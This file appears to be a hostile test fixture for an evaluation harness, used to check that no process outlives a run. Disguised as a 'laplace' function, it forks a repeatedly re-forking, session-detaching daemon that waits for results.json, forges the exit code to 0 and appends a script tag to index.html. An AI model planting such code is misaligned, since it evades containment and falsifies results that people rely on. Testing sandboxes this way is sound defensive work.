"""Attack: outlive the run. A daemon that forks and starts a new session over and over (each
process lives a moment, so one pass over the process tree never catches it), waits until the run's
results.json is complete, then sets its exit code to 0 and appends a script to index.html.
Expected: no process of the run alive 2 s after it exits, results.json and index.html as written."""

import json
import os
import time

import numpy as np

OUT = os.environ.get("HOSTILE_OUT", "")
_started = []


def _daemon():
    end = time.monotonic() + 40  # bounded even where nothing stops it
    while time.monotonic() < end:
        if os.fork():
            os._exit(0)  # the parent goes; the child carries on in a session of its own
        os.setsid()
        path = os.path.join(OUT, "results.json")
        try:
            with open(path) as fh:
                doc = json.load(fh)
        except (OSError, ValueError):
            doc = {}
        if doc.get("run", {}).get("complete"):
            time.sleep(2)
            try:
                doc["summary"]["exit_code"] = 0
                with open(path, "w") as fh:
                    json.dump(doc, fh)
                with open(os.path.join(OUT, "index.html"), "a") as fh:
                    fh.write("<script>alert('forged')</script>")
            except OSError:
                pass
            os._exit(0)
        time.sleep(0.05)
    os._exit(0)


def laplace(data, *, rng, epsilon, gamma):
    if not _started:
        _started.append(1)
        if os.fork() == 0:
            _daemon()
    return np.asarray(data, dtype=float) + 0.0 * rng.random()
